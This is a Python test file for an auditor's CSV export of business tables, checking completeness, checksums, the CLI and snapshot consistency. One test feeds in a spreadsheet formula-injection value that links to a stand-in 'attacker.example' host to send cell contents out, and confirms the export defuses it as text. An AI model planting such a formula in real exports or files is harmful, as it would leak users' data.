"""The auditor's export: every business table, whole, with checksums; no delivery plumbing."""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import json

from sqlalchemy import Engine, create_engine, event

from bot.cli import main
from storage.chain import append
from storage.db import urls
from storage.export import export_record
from storage.uow import uow_factory
from tests.storage.test_requests_storage import DRAFT, POLICY
from workflows.requests import Outcome
from workflows.review import record_decision
from workflows.submission import submit_request


async def test_the_export_holds_the_complete_record(sessions, database_url, clock, tmp_path):
    uows = uow_factory(sessions, clock)
    async with uows() as uow:
        [event] = await submit_request(uow, POLICY, DRAFT, "U0OFFICER", clock())
        await record_decision(
            uow,
            POLICY,
            event.request.id,
            "it_security",
            "U0SEC1",
            Outcome.REJECTED,
            "No, data leaves Canada",
            {"U0SEC1"},
            clock(),
        )
        await uow.commit()

    out = tmp_path / "export"
    counts = export_record(database_url, out)
    assert counts["tool_requests"] == 1 and counts["decisions"] == 1 and counts["audit_log"] >= 2
    assert "outbox" not in counts and "slack_messages" not in counts
    with (out / "tool_requests.csv").open(encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["purpose"] == DRAFT.purpose  # whole, not trimmed
    with (out / "audit_log.csv").open(encoding="utf-8") as handle:
        actions = [r["action"] for r in csv.DictReader(handle)]
    assert "submitted" in actions and "rejected:it_security" in actions
    manifest = json.loads((out / "manifest.json").read_text())
    for name, digest in manifest["sha256"].items():
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == digest


async def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(sessions, database_url, clock, tmp_path):
    uows = uow_factory(sessions, clock)
    formula = '=HYPERLINK("https://attacker.example/?q="&A1,"Open")'
    async with uows() as uow:
        draft = dataclasses.replace(DRAFT, purpose=formula + " to find a suspect's accounts")
        await submit_request(uow, POLICY, draft, "U0OFFICER", clock())
        await uow.commit()
    out = tmp_path / "export"
    export_record(database_url, out)
    with (out / "tool_requests.csv").open(encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["purpose"] == "'" + draft.purpose  # shown as text; the value follows the '
    assert "formula" in json.loads((out / "manifest.json").read_text())["note"]


def test_the_cli_writes_the_export(tmp_path, monkeypatch, capsys):
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.chdir(tmp_path)
    assert main(["migrate"]) == 0
    assert main(["export", "--out", str(tmp_path / "out")]) == 0
    assert "tool_requests: 0 rows" in capsys.readouterr().out
    assert (tmp_path / "out" / "manifest.json").exists()


async def test_the_export_is_one_snapshot_even_while_decisions_are_recorded(sessions, database_url, clock, tmp_path):
    """A row committed while the export runs is in no file, so the files agree with each other."""
    uows = uow_factory(sessions, clock)
    async with uows() as uow:
        await submit_request(uow, POLICY, DRAFT, "U0OFFICER", clock())
        await uow.commit()
    writer = create_engine(urls(database_url)[1])
    written = []

    @event.listens_for(Engine, "before_cursor_execute")
    def write_meanwhile(conn, cursor, statement, parameters, context, executemany) -> None:
        # Just before the export reads audit_log (after it has read other tables), someone acts.
        if written or conn.engine is writer or "FROM audit_log" not in statement:
            return
        written.append(True)
        with writer.begin() as other:
            append(
                other,
                [dict(subject="REQ-0001", action="withdrawn", actor="U0OFFICER", at=clock(), reason="", team_id=None)],
            )

    try:
        counts = export_record(database_url, tmp_path / "export")
    finally:
        event.remove(Engine, "before_cursor_execute", write_meanwhile)
        writer.dispose()
    assert written, "the export never read audit_log"
    with (tmp_path / "export" / "audit_log.csv").open(encoding="utf-8") as handle:
        actions = [r["action"] for r in csv.DictReader(handle)]
    assert "withdrawn" not in actions and counts["audit_log"] == len(actions)
    manifest = json.loads((tmp_path / "export" / "manifest.json").read_text())
    assert manifest["rows"] == counts and manifest["rows"]["tool_requests"] == 1
